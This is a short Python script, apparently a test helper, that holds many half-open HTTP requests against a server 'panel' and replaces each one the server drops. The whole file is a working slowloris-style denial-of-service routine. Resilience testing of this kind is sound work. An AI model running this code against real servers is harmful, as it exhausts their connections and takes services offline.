"""Process that holds half-open requests at a panel, and replaces those that the panel closes, until its input ends."""

from __future__ import annotations

import resource
import selectors
import socket
import sys
from contextlib import suppress

HALF_OPEN = b"GET / HTTP/1.1\r\nHost: "
ROUND_S = 0.01
MOST_PER_ROUND = 10
"""Connections that are replaced in one round."""


def hold(address: tuple[str, int], count: int) -> None:
    """Open connections and keep their number until standard input ends."""
    with selectors.DefaultSelector() as selector:
        selector.register(sys.stdin, selectors.EVENT_READ)
        for _ in range(count):
            attack(selector, address)
        sys.stdout.write("held\n")
        sys.stdout.flush()
        while True:
            for key, _ in selector.select(ROUND_S)[:MOST_PER_ROUND]:
                if key.fileobj is sys.stdin:
                    return
                selector.unregister(key.fileobj)
                assert isinstance(key.fileobj, socket.socket)
                key.fileobj.close()
                attack(selector, address)
            selector.select(0)


def attack(selector: selectors.BaseSelector, address: tuple[str, int]) -> None:
    """Open one connection without waiting for it."""
    connection = socket.create_connection(address, 5.0)
    with suppress(ConnectionError):
        connection.sendall(HALF_OPEN)
    selector.register(connection, selectors.EVENT_READ)


if __name__ == "__main__":
    host, port, count, files = sys.argv[1:]
    resource.setrlimit(resource.RLIMIT_NOFILE, (int(files), int(files)))
    hold((host, int(port)), int(count))
